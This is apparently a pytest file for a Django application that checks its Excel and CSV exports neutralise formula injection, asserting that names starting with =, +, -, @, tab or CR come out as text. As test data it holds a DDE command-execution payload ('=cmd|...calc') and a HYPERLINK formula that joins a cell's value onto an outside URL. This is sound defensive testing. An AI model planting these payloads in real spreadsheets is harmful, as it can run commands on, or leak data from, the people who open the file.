"""Issue 14 item 7: no export holds a live formula. Text starting with = + - @ tab or CR is written as text
(a string cell in .xlsx, a leading apostrophe in CSV); numbers, negative ones included, stay numbers."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from core import spreadsheets
from organizations.models import MemberUnit
from venues.models import Venue
from venues.resources import export_rows

HYPERLINK = '=HYPERLINK("http://x"&A2,"点击查看")'
PAYLOADS = ["=cmd|' /C calc'!A0", "@SUM(1)", "+1+1", "-1+1", "\t=1", "\r=1"]


def test_a_federation_named_like_a_formula_is_text_in_the_dashboard_excel(tree, users):
    tree.d1.name = HYPERLINK
    tree.d1.save()
    client = Client()
    client.force_login(users.city)
    response = client.get("/evaluations/dashboard/export.xlsx", {"federation": tree.city.pk})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    named = [cell for cell in cells if cell.value == HYPERLINK]
    assert named and all(cell.data_type == "s" for cell in named)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_admin_csv_and_xlsx_exports_escape_formulas(tree, users, make_unit, payload):
    make_unit(tree.s1, name=payload, address=payload)
    client = Client()
    client.force_login(users.district)
    url = reverse("admin:organizations_memberunit_export")
    formats = client.get(url).context["form"].fields["format"].choices
    by_label = {str(label).lower(): value for value, label in formats}
    fields = {"resource": 0, "memberunitresource_name": True, "memberunitresource_address": True}
    csv_response = client.post(url, {**fields, "format": by_label["csv"]})
    assert csv_response.status_code == 200, csv_response.content[:500]
    rows = list(csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig"))))
    assert "'" + payload in [cell for row in rows for cell in row]
    assert payload not in [cell for row in rows for cell in row]
    xlsx_response = client.post(url, {**fields, "format": by_label["xlsx"]})
    book = load_workbook(io.BytesIO(xlsx_response.content))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    stored = payload.replace("\r", "\n")  # XML reads a carriage return back as a line feed
    assert {cell.data_type for cell in cells if cell.value == stored} == {"s"}
    assert MemberUnit.objects.count() == 1


def test_export_rows_escapes_and_numbers_stay_numbers(tree, users, make_venue):
    make_venue(tree.s1c1, name="=1+1", code="V-1", area_m2=12)
    data = export_rows("venues", Venue.objects.all(), file_format="xlsx")
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert any(c.value == "=1+1" and c.data_type == "s" for c in cells)
    text = export_rows("venues", Venue.objects.all(), file_format="csv")
    assert "'=1+1" in text and "'V-1" not in text  # only a leading sign is escaped


def test_escaping_round_trips_on_import():
    assert spreadsheets.unescape_text(spreadsheets.escape_text("=1+1")) == "=1+1"
    assert spreadsheets.escape_text(-1) == -1 and spreadsheets.escape_text("普通") == "普通"
